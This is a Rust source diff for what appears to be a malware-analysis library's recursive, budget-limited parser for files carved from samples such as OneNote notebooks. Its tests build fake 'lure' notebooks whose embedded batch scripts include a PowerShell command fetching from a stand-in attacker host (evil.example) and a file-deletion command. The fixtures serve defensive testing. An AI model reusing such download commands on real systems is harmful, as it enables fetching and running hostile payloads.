@@ -0,0 +1,240 @@
+//! Recursive analysis of a sample and the files carved from it, bounded by
+//! an `AnalysisBudget`
+
+use crate::detector::FileDetector;
+use crate::parser::{calculate_sha256, parse_file_with_limits};
+use crate::types::{AnalysisBudget, BudgetLimit, EmbeddedFile, ParsedFile, ParserLimits, ProcessorResult};
+use serde::{Deserialize, Serialize};
+use std::collections::VecDeque;
+use std::time::{Duration, Instant};
+
+/// A carved file that was parsed
+#[derive(Debug, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub struct AnalyzedSubfile {
+    /// SHA-256 of the file it was carved from
+    pub parent_hash: String,
+    /// 1 for files carved from the sample itself
+    pub depth: usize,
+    pub embedded: EmbeddedFile,
+    pub parsed: Option<ParsedFile>,
+    pub error: Option<String>,
+}
+
+/// A carved file left unparsed because the budget ran out. Files it would
+/// have carved in turn are never discovered, so they are not listed.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub struct SkippedSubfile {
+    pub parent_hash: String,
+    pub depth: usize,
+    pub name: Option<String>,
+    pub size: usize,
+    pub hash: String,
+    pub reason: BudgetLimit,
+}
+
+#[derive(Debug, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub struct RecursiveAnalysis {
+    pub root: ParsedFile,
+    /// Breadth first: everything at depth 1, then depth 2, ...
+    pub subfiles: Vec<AnalyzedSubfile>,
+    pub skipped: Vec<SkippedSubfile>,
+    pub bytes_analyzed: u64,
+}
+
+impl RecursiveAnalysis {
+    pub fn skipped_count(&self) -> usize {
+        self.skipped.len()
+    }
+
+    /// Whether any part of the sample went unanalyzed
+    pub fn budget_exhausted(&self) -> bool {
+        !self.skipped.is_empty()
+    }
+}
+
+struct Pending {
+    data: Vec<u8>,
+    parent_hash: String,
+    depth: usize,
+    embedded: EmbeddedFile,
+}
+
+/// Parse `buffer`, then every file carved from it and from those in turn,
+/// until nothing is left to carve or `budget` runs out. The sample itself is
+/// always parsed; once the subfile or time limit is hit everything still
+/// queued is skipped, while a file too big for the remaining byte allowance
+/// is skipped alone so smaller ones can still be parsed.
+pub fn analyze_recursive(buffer: &[u8], filename: Option<&str>, budget: &AnalysisBudget) -> ProcessorResult<RecursiveAnalysis> {
+    analyze_recursive_with_limits(buffer, filename, budget, &ParserLimits::default())
+}
+
+/// `analyze_recursive`, parsing the sample and every carved file under `limits`
+pub fn analyze_recursive_with_limits(
+    buffer: &[u8],
+    filename: Option<&str>,
+    budget: &AnalysisBudget,
+    limits: &ParserLimits,
+) -> ProcessorResult<RecursiveAnalysis> {
+    let started = Instant::now();
+    let detector = FileDetector::new();
+
+    let root = parse_file_with_limits(buffer, detector.detect_format(buffer, filename), limits)?;
+    let mut queue = VecDeque::new();
+    enqueue_carved(&mut queue, buffer, &root, 1);
+
+    let mut analysis = RecursiveAnalysis {
+        root,
+        subfiles: Vec::new(),
+        skipped: Vec::new(),
+        bytes_analyzed: buffer.len() as u64,
+    };
+
+    while let Some(pending) = queue.pop_front() {
+        let limit = if analysis.subfiles.len() >= budget.max_subfiles {
+            Some(BudgetLimit::Subfiles)
+        } else if started.elapsed() >= Duration::from_millis(budget.max_wall_ms) {
+            Some(BudgetLimit::WallTime)
+        } else if analysis.bytes_analyzed + pending.data.len() as u64 > budget.max_total_bytes {
+            Some(BudgetLimit::TotalBytes)
+        } else {
+            None
+        };
+
+        match limit {
+            Some(BudgetLimit::TotalBytes) => analysis.skipped.push(skip(&pending, BudgetLimit::TotalBytes)),
+            Some(reason) => {
+                analysis.skipped.push(skip(&pending, reason));
+                analysis.skipped.extend(queue.drain(..).map(|p| skip(&p, reason)));
+            }
+            None => {
+                analysis.bytes_analyzed += pending.data.len() as u64;
+                let (parsed, error) = match parse_file_with_limits(&pending.data, pending.embedded.format.clone(), limits) {
+                    Ok(parsed) => {
+                        enqueue_carved(&mut queue, &pending.data, &parsed, pending.depth + 1);
+                        (Some(parsed), None)
+                    }
+                    Err(e) => (None, Some(e.to_string())),
+                };
+                analysis.subfiles.push(AnalyzedSubfile {
+                    parent_hash: pending.parent_hash,
+                    depth: pending.depth,
+                    embedded: pending.embedded,
+                    parsed,
+                    error,
+                });
+            }
+        }
+    }
+
+    Ok(analysis)
+}
+
+/// Queue the embedded files of `parsed` whose bytes can be read back from
+/// `buffer`. Parsers that report decoded content (RTF object data, say) give
+/// offsets into the encoded form; the hash check leaves those out.
+fn enqueue_carved(queue: &mut VecDeque<Pending>, buffer: &[u8], parsed: &ParsedFile, depth: usize) {
+    for embedded in &parsed.embedded_files {
+        let Some(data) = carved_bytes(buffer, embedded) else { continue };
+        queue.push_back(Pending {
+            data: data.to_vec(),
+            parent_hash: parsed.metadata.hash.clone(),
+            depth,
+            embedded: embedded.clone(),
+        });
+    }
+}
+
+fn carved_bytes<'a>(buffer: &'a [u8], embedded: &EmbeddedFile) -> Option<&'a [u8]> {
+    if embedded.size == 0 {
+        return None;
+    }
+    let data = buffer.get(embedded.offset..embedded.offset.checked_add(embedded.size)?)?;
+    (calculate_sha256(data) == embedded.hash).then_some(data)
+}
+
+fn skip(pending: &Pending, reason: BudgetLimit) -> SkippedSubfile {
+    SkippedSubfile {
+        parent_hash: pending.parent_hash.clone(),
+        depth: pending.depth,
+        name: pending.embedded.name.clone(),
+        size: pending.embedded.size,
+        hash: pending.embedded.hash.clone(),
+        reason,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::parser::onenote::ONENOTE_SIGNATURE;
+
+    /// FileDataStoreObject header GUID, length, padding, data
+    fn file_data_object(data: &[u8]) -> Vec<u8> {
+        let mut object = vec![
+            0xE7, 0x16, 0xE3, 0xBD, 0x65, 0x26, 0x11, 0x45,
+            0xA4, 0xC4, 0x8D, 0x4D, 0x0B, 0x7A, 0x9E, 0xAC,
+        ];
+        object.extend_from_slice(&(data.len() as u64).to_le_bytes());
+        object.extend_from_slice(&[0; 12]);
+        object.extend_from_slice(data);
+        object.resize(object.len().next_multiple_of(8), 0);
+        object
+    }
+
+    fn onenote(attachments: &[Vec<u8>]) -> Vec<u8> {
+        let mut data = ONENOTE_SIGNATURE.to_vec();
+        data.extend_from_slice(&[0u8; 64]);
+        for attachment in attachments {
+            data.extend(file_data_object(attachment));
+        }
+        data
+    }
+
+    #[test]
+    fn test_subfile_cap_stops_recursion_and_reports_skipped() {
+        // 6 nested notebooks, each carrying 2 scripts: 18 subfiles in all
+        let notebooks: Vec<Vec<u8>> = (0..6)
+            .map(|i| {
+                onenote(&[
+                    format!("@echo off\r\ncmd /c del payload{}.tmp\r\n", i).into_bytes(),
+                    format!("@echo off\r\npowershell -c \"iwr http://evil.example/{}\"\r\n", i).into_bytes(),
+                ])
+            })
+            .collect();
+        let sample = onenote(&notebooks);
+
+        let full = analyze_recursive(&sample, Some("lure.one"), &AnalysisBudget::default()).unwrap();
+        assert_eq!(full.subfiles.len(), 18);
+        assert!(!full.budget_exhausted());
+        assert_eq!(full.subfiles.iter().filter(|s| s.depth == 2).count(), 12);
+
+        let budget = AnalysisBudget::default().with_max_subfiles(5);
+        let capped = analyze_recursive(&sample, Some("lure.one"), &budget).unwrap();
+
+        assert_eq!(capped.subfiles.len(), 5);
+        assert!(capped.subfiles.iter().all(|s| s.depth == 1 && s.parsed.is_some()));
+        // The sixth notebook, and the 2 scripts of each of the 5 parsed ones
+        assert_eq!(capped.skipped_count(), 11);
+        assert!(capped.skipped.iter().all(|s| s.reason == BudgetLimit::Subfiles));
+        assert_eq!(capped.skipped.iter().filter(|s| s.depth == 2).count(), 10);
+    }
+
+    #[test]
+    fn test_oversized_subfile_skipped_alone() {
+        let big = vec![b'A'; 4096];
+        let small = b"@echo off\r\nexit\r\n".to_vec();
+        let sample = onenote(&[big, small]);
+        let budget = AnalysisBudget::default().with_max_total_bytes(sample.len() as u64 + 100);
+
+        let analysis = analyze_recursive(&sample, None, &budget).unwrap();
+
+        assert_eq!(analysis.subfiles.len(), 1);
+        assert_eq!(analysis.subfiles[0].embedded.size, 17);
+        assert_eq!(analysis.skipped_count(), 1);
+        assert_eq!(analysis.skipped[0].reason, BudgetLimit::TotalBytes);
+        assert_eq!(analysis.skipped[0].size, 4096);
+    }
+}